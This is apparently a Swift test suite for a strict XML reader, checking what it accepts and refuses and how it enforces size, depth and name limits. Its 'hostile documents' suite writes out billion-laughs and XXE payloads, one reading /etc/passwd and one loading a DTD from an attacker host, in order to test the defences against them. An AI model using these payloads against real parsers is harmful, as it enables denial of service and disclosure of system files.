import EdgeAdminAPI
import Testing

@Suite("StrictXMLReader: what it accepts")
struct StrictXMLReaderAcceptanceTests {
    let reader = StrictXMLReader()

    @Test("a document with BOM, declaration, comments, attributes, self-closing tags and CDATA")
    func fullDocument() throws {
        let text = "\u{FEFF}<?xml version=\"1.0\" encoding=\"utf-8\" standalone='yes' ?>\n"
            + "<!-- leading comment -->\n"
            + "<r:Root xmlns=\"urn:a\" xmlns:r='urn:r' k = \"v\">\n"
            + "  <Empty/><Empty a='1' />\n"
            + "  <T>a<!-- inside -->b<![CDATA[<not a tag> & ]]>c</T>\n"
            + "</r:Root >\n<!-- trailing -->\n\n"
        let root = try reader.parse(Array(text.utf8))
        #expect(root.name == "r:Root")
        #expect(root.attributes.map(\.name) == ["xmlns", "xmlns:r", "k"])
        #expect(root.attribute("xmlns") == "urn:a")
        #expect(root.attribute("xmlns:r") == "urn:r")
        #expect(root.attribute("k") == "v")
        #expect(root.children.map(\.name) == ["Empty", "Empty", "T"])
        #expect(root.children("Empty").map { $0.attribute("a") } == [nil, "1"])
        #expect(root.child("T")?.text == "ab<not a tag> & c")
        #expect(root.child("T")?.children.isEmpty == true)
        #expect(root.child("Missing") == nil)
    }

    @Test("the five predefined entities and character references resolve to one character each")
    func references() throws {
        let root = try reader.parse(Array(
            "<a t='&lt;&gt;&amp;&quot;&apos;'>&lt;&gt;&amp;&quot;&apos; &#65;&#x42;&#x043;&#x1F600;&#xe9;</a>".utf8))
        #expect(root.text == "<>&\"' AB\u{43}\u{1F600}\u{E9}")
        #expect(root.attribute("t") == "<>&\"'")
    }

    @Test("text keeps whitespace; line ends read as LF; element text excludes children's text")
    func textAndLineEnds() throws {
        let root = try reader.parse(Array("<a> x\r\ny\rz <b>inner</b> w&#13;\t</a>".utf8))
        #expect(root.text == " x\ny\nz  w\r\t")
        #expect(root.child("b")?.text == "inner")
    }

    @Test("attribute values: whitespace characters become spaces, references are kept as written")
    func attributeNormalization() throws {
        let root = try reader.parse(Array("<a v=\"one\ttwo\r\nthree\nfour&#10;five\" w='&quot;\"'/>".utf8))
        #expect(root.attribute("v") == "one two three four\nfive")
        #expect(root.attribute("w") == "\"\"")
    }

    @Test("non-ASCII names and text")
    func unicode() throws {
        let root = try reader.parse(Array("<Ünïcødé 名前='値'>日本語 ½</Ünïcødé>".utf8))
        #expect(root.name == "Ünïcødé")
        #expect(root.attribute("名前") == "値")
        #expect(root.text == "日本語 ½")
    }

    @Test("byte offsets of elements point at their '<'")
    func offsets() throws {
        let root = try reader.parse(Array("<a>\n  <b/><c></c></a>".utf8))
        #expect(root.offset == 0)
        #expect(root.children.map(\.offset) == [6, 10])
    }

    @Test("exactly at each limit is accepted")
    func atTheLimits() throws {
        let limited = StrictXMLReader(maxDepth: 3, maxElements: 4, maxBytes: 40, maxNameLength: 5)
        let document = "<abcde><b><c/></b><d/></abcde>"
        #expect(document.utf8.count <= 40)
        let root = try limited.parse(Array(document.utf8))
        #expect(root.children.map(\.name) == ["b", "d"])
        #expect(root.child("b")?.child("c") != nil)
    }

    @Test("a parsed document is the same whether passed as an array or any byte sequence")
    func sequenceInput() throws {
        let bytes = Array("<a x='1'>t</a>".utf8)
        #expect(try reader.parse(bytes[...]) == reader.parse(bytes))
    }
}

@Suite("StrictXMLReader: what it refuses")
struct StrictXMLReaderRejectionTests {
    @Test("malformed structure", arguments: [
        ("", "the document has no root element"),
        ("  <!-- only a comment -->  ", "the document has no root element"),
        ("<a>", "<a> is never closed; the document ends inside it"),
        ("<a><b></a>", "</a> does not match <b>"),
        ("<a></b>", "</b> does not match <a>"),
        ("</a>", "an end tag with no element open"),
        ("<a/><b/>", "a second root element; a document has exactly one"),
        ("<a/>text", "content after the root element"),
        ("text<a/>", "text before the root element"),
        ("<a/><![CDATA[x]]>", "a CDATA section outside the root element"),
        ("<a b='1' b='2'/>", "attribute b appears twice in <a>"),
        ("<a b=1/>", "an attribute value must be in single or double quotes"),
        ("<a b='x<y'/>", "'<' is not allowed in an attribute value; write &lt;"),
        ("<a b='1'c='2'/>", "expected whitespace, '>' or '/>' in the start tag of <a>"),
        ("<a b/>", "expected '=' after attribute b"),
        ("<1a/>", "expected an element name"),
        ("< a/>", "expected an element name"),
        ("<a>]]></a>", "']]>' is not allowed in text; write ]]&gt;"),
        ("<a><![CDATA[x</a>", "a CDATA section is never closed with ']]>'"),
        ("<a><!-- x -- y --></a>", "'--' is not allowed inside a comment"),
        ("<a><!-- x </a>", "a comment is never closed with '-->'"),
        ("<a>&amp</a>", "an entity reference must end with ';' (write &amp; for a literal '&')"),
        ("<a>& b</a>", "expected an entity name after '&' (write &amp; for a literal '&')"),
        ("<a>&#;</a>", "a character reference must be &#digits; or &#xhex-digits;"),
        ("<a>&#x41</a>", "a character reference must be &#digits; or &#xhex-digits;"),
        ("<a>&#X41;</a>", "a character reference must be &#digits; or &#xhex-digits;"),
        ("<a", "the document ends inside the start tag of <a>"),
        ("<a b='1", "the document ends inside an attribute value"),
        ("<a></a", "expected '>' to end </a>"),
    ])
    func malformed(document: String, message: String) {
        let error = readError(document)
        #expect(error?.kind == .syntax, "\(document)")
        #expect(error?.message == message, "\(document)")
    }

    @Test("DTDs, entity declarations, other <! declarations and processing instructions", arguments: [
        ("<!DOCTYPE a><a/>", "DOCTYPE declarations are not accepted (no DTDs, no entity definitions)"),
        ("<a><!ENTITY x 'y'></a>", "ENTITY declarations are not accepted"),
        ("<a><!ELEMENT a ANY></a>", "<! declarations are not accepted (only comments and CDATA sections)"),
        ("<!ATTLIST a b CDATA #IMPLIED><a/>", "<! declarations are not accepted (only comments and CDATA sections)"),
        ("<?xml-stylesheet href='x'?><a/>", "processing instructions are not accepted"),
        ("<a><?php echo 1; ?></a>", "processing instructions are not accepted"),
        ("<a/><?pi?>", "processing instructions are not accepted"),
        (" <?xml version='1.0'?><a/>", "the XML declaration is only allowed at the very start of the document"),
        ("<a/><?xml version='1.0'?>", "the XML declaration is only allowed at the very start of the document"),
    ])
    func forbidden(document: String, message: String) {
        let error = readError(document)
        #expect(error?.kind == .forbidden, "\(document)")
        #expect(error?.message == message, "\(document)")
    }

    @Test("unknown entity references are errors, never lookups")
    func unknownEntity() {
        let error = readError("<a>x &unknown; y</a>")
        #expect(error?.kind == .syntax)
        #expect(error?.message
            == "unknown entity &unknown;: only &lt; &gt; &amp; &quot; &apos; and character references are accepted")
        #expect(error?.offset == 5)
        #expect(readError("<a b='&nbsp;'/>")?.message.hasPrefix("unknown entity &nbsp;") == true)
    }

    @Test("character references to characters XML does not allow", arguments: [
        "&#0;", "&#x0;", "&#1;", "&#x1F;", "&#xD800;", "&#xDFFF;", "&#xFFFE;", "&#xFFFF;", "&#x110000;",
        "&#1114112;", "&#99999999999999999999;", "&#x7FFFFFFFFFFFFFFFFFFF;",
    ])
    func invalidCharacterReferences(reference: String) {
        let error = readError("<a>\(reference)</a>")
        #expect(error?.kind == .syntax, "\(reference)")
        #expect(error?.message.hasSuffix("is not a character XML 1.0 allows") == true, "\(reference)")
        #expect(error?.offset == 3)
    }

    @Test("bad XML declarations", arguments: [
        ("<?xml version='2.0'?><a/>", "version=\"2.0\" in the XML declaration; expected 1.0"),
        ("<?xml version='1.0' encoding='ISO-8859-1'?><a/>",
         "encoding=\"ISO-8859-1\" in the XML declaration; expected UTF-8 (the only encoding accepted)"),
        ("<?xml version='1.0' standalone='maybe'?><a/>",
         "standalone=\"maybe\" in the XML declaration; expected yes or no"),
        ("<?xml encoding='UTF-8' version='1.0'?><a/>",
         "the XML declaration takes version, encoding and standalone, in that order"),
        ("<?xml version='1.0' foo='bar'?><a/>",
         "the XML declaration takes version, encoding and standalone, in that order"),
        ("<?xml ?><a/>", "the XML declaration must start with version=\"1.0\""),
        ("<?xml version='1.0'", "the XML declaration is never closed with '?>'"),
    ])
    func badDeclaration(document: String, message: String) {
        #expect(readError(document)?.message == message, "\(document)")
    }

    @Test("invalid UTF-8 is refused at the offending byte", arguments: [
        ([0xC0, 0xAF], "invalid UTF-8 (byte 0xC0); the body must be UTF-8"),  // overlong "/"
        ([0xE0, 0x80, 0xAF], "invalid UTF-8 (byte 0xE0); the body must be UTF-8"),  // overlong
        ([0xED, 0xA0, 0x80], "invalid UTF-8 (byte 0xED); the body must be UTF-8"),  // surrogate U+D800
        ([0xF4, 0x90, 0x80, 0x80], "invalid UTF-8 (byte 0xF4); the body must be UTF-8"),  // past U+10FFFF
        ([0x80], "invalid UTF-8 (byte 0x80); the body must be UTF-8"),  // stray continuation
        ([0xFF], "invalid UTF-8 (byte 0xFF); the body must be UTF-8"),
        ([0xE6, 0x97], "invalid UTF-8 (byte 0xE6); the body must be UTF-8"),  // truncated
    ] as [([UInt8], String)])
    func invalidUTF8(bad: [UInt8], message: String) {
        let bytes = Array("<a>ok".utf8) + bad + Array("</a>".utf8)
        let error = readError(bytes)
        #expect(error?.kind == .encoding)
        #expect(error?.message == message)
        #expect(error?.offset == 5)
        // Also at the very end of the input, where a truncated sequence runs out of bytes.
        #expect(readError(Array("<a/>".utf8) + bad)?.kind == .encoding)
    }

    @Test("control characters XML 1.0 does not allow, even where they would be ignored", arguments: [
        ([0x00], "U+0000"), ([0x01], "U+0001"), ([0x08], "U+0008"), ([0x0B], "U+000B"), ([0x1F], "U+001F"),
        ([0xEF, 0xBF, 0xBE], "U+FFFE"), ([0xEF, 0xBF, 0xBF], "U+FFFF"),
    ] as [([UInt8], String)])
    func controlCharacters(bad: [UInt8], name: String) {
        for bytes in [Array("<a>x".utf8) + bad + Array("</a>".utf8), Array("<a/>".utf8) + bad] {
            let error = readError(bytes)
            #expect(error?.kind == .encoding)
            #expect(error?.message == "character \(name) is not allowed in XML 1.0")
        }
    }

    @Test("errors say line and column (in characters) as well as the byte offset")
    func position() {
        let error = readError("<a>\n  <b>\n  é</c>\n</a>")
        #expect(error?.message == "</c> does not match <b>")
        #expect(error?.offset == 14)
        #expect(error?.line == 3)
        #expect(error?.column == 4)
        #expect(error?.description == "line 3, column 4 (byte 14): </c> does not match <b>")
    }
}

@Suite("StrictXMLReader: limits")
struct StrictXMLReaderLimitTests {
    @Test("one element too deep")
    func depth() {
        let reader = StrictXMLReader(maxDepth: 3)
        #expect(readError("<a><b><c/></b></a>", reader) == nil)
        let error = readError("<a><b><c><d/></c></b></a>", reader)
        #expect(error?.kind == .depthLimit)
        #expect(error?.message == "elements nested deeper than 3 levels")
        #expect(error?.offset == 9)
    }

    @Test("one element too many")
    func elementCount() {
        let reader = StrictXMLReader(maxElements: 3)
        #expect(readError("<a><b/><c/></a>", reader) == nil)
        let error = readError("<a><b/><c/><d/></a>", reader)
        #expect(error?.kind == .elementLimit)
        #expect(error?.message == "more than 3 elements")
        #expect(error?.offset == 11)
    }

    @Test("one byte too many, checked before anything is read")
    func size() {
        let reader = StrictXMLReader(maxBytes: 10)
        #expect(readError("<a>12345</a>", StrictXMLReader(maxBytes: 12)) == nil)
        let error = readError("<a>12345</a>", reader)
        #expect(error?.kind == .sizeLimit)
        #expect(error?.message == "the document is 12 bytes; at most 10 are accepted")
        // Even when the first bytes are not UTF-8: the size check comes first.
        #expect(readError([0xFF] + Array(repeating: 0x20, count: 20), reader)?.kind == .sizeLimit)
    }

    @Test("names longer than the limit: elements, attributes, entity names")
    func nameLength() {
        let reader = StrictXMLReader(maxNameLength: 8)
        #expect(readError("<abcdefgh abcdefgh='1'/>", reader) == nil)
        for document in ["<abcdefghi/>", "<a abcdefghi='1'/>", "<a>&abcdefghi;</a>", "<ééééé/>"] {
            let error = readError(document, reader)
            #expect(error?.kind == .nameLengthLimit, "\(document)")
            #expect(error?.message == "a name longer than 8 bytes", "\(document)")
        }
    }

    @Test("the defaults: depth 16, 10,000 elements, 1 MiB, names of 256 bytes")
    func defaults() {
        let reader = StrictXMLReader()
        #expect(reader.maxDepth == 16)
        #expect(reader.maxElements == 10_000)
        #expect(reader.maxBytes == 1 << 20)
        #expect(reader.maxNameLength == 256)
        let deep = { (depth: Int) in
            String(repeating: "<a>", count: depth) + String(repeating: "</a>", count: depth)
        }
        #expect(readError(deep(16)) == nil)
        #expect(readError(deep(17))?.kind == .depthLimit)
        #expect(readError("<r>" + String(repeating: "<e/>", count: 9_999) + "</r>") == nil)
        #expect(readError("<r>" + String(repeating: "<e/>", count: 10_000) + "</r>")?.kind == .elementLimit)
        #expect(readError("<\(String(repeating: "n", count: 256))/>") == nil)
        #expect(readError("<\(String(repeating: "n", count: 257))/>")?.kind == .nameLengthLimit)
    }
}

@Suite("StrictXMLReader: hostile documents")
struct StrictXMLReaderHostileTests {
    @Test("billion laughs is refused at the DOCTYPE, before any entity is defined")
    func billionLaughs() {
        var document = "<?xml version=\"1.0\"?>\n<!DOCTYPE lolz [\n <!ENTITY lol \"lol\">\n"
        document += " <!ENTITY lol1 \"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;\">\n"
        for level in 2...9 {
            let previous = "&lol\(level - 1);"
            document += " <!ENTITY lol\(level) \"\(String(repeating: previous, count: 10))\">\n"
        }
        document += "]>\n<lolz>&lol9;</lolz>"
        let error = readError(document)
        #expect(error?.kind == .forbidden)
        #expect(error?.offset == 22)
        #expect(error?.line == 2)
    }

    @Test("external entities (XXE) are refused, declared or not")
    func externalEntity() {
        let declared = readError("<?xml version=\"1.0\"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>"
            + "<foo>&xxe;</foo>")
        #expect(declared?.kind == .forbidden)
        #expect(declared?.message.hasPrefix("DOCTYPE") == true)
        let parameterEntity = readError("<!DOCTYPE foo [<!ENTITY % p SYSTEM \"http://attacker/x.dtd\"> %p;]><foo/>")
        #expect(parameterEntity?.kind == .forbidden)
        let undeclared = readError("<foo>&xxe;</foo>")
        #expect(undeclared?.message.hasPrefix("unknown entity &xxe;") == true)
    }

    @Test("100,000 nested elements stop at the depth limit, without recursion")
    func deepNesting() {
        let document = Array(String(repeating: "<a>", count: 100_000).utf8)
        let error = readError(document)
        #expect(error?.kind == .depthLimit)
        #expect(error?.offset == 16 * 3)
        // A higher limit is a matter of configuration: reading itself keeps an explicit stack.
        let deeper = StrictXMLReader(maxDepth: 1000)
        let balanced = String(repeating: "<a>", count: 1000) + String(repeating: "</a>", count: 1000)
        #expect(readError(balanced, deeper) == nil)
        #expect(readError(document, deeper)?.offset == 1000 * 3)
    }

    @Test("10 MB of random bytes is refused by size, and by content when the size limit allows it")
    func garbage() {
        // xorshift64: the same 10 MB on every run.
        var state: UInt64 = 0x5EED
        var garbage: [UInt8] = []
        garbage.reserveCapacity(10_000_000)
        for _ in 0..<1_250_000 {
            state ^= state << 13
            state ^= state >> 7
            state ^= state << 17
            withUnsafeBytes(of: state) { garbage.append(contentsOf: $0) }
        }
        #expect(readError(garbage)?.kind == .sizeLimit)
        let roomy = StrictXMLReader(maxBytes: 16 << 20)
        let error = readError(garbage, roomy)
        #expect(error?.kind == .encoding || error?.kind == .syntax)
        // Valid UTF-8 that is all markup characters: refused where the first name should be.
        let markup = Array(String(repeating: "<&]>", count: 2_500_000).utf8)
        #expect(readError(markup, roomy)?.message == "expected an element name")
        #expect(readError(markup, roomy)?.offset == 1)
    }

    @Test("a large but valid document reads in one pass")
    func largeText() throws {
        let roomy = StrictXMLReader(maxBytes: 2 << 20)
        let text = String(repeating: "x&amp;", count: 200_000)
        let root = try roomy.parse(Array("<a>\(text)</a>".utf8))
        #expect(root.text == String(repeating: "x&", count: 200_000))
    }
}
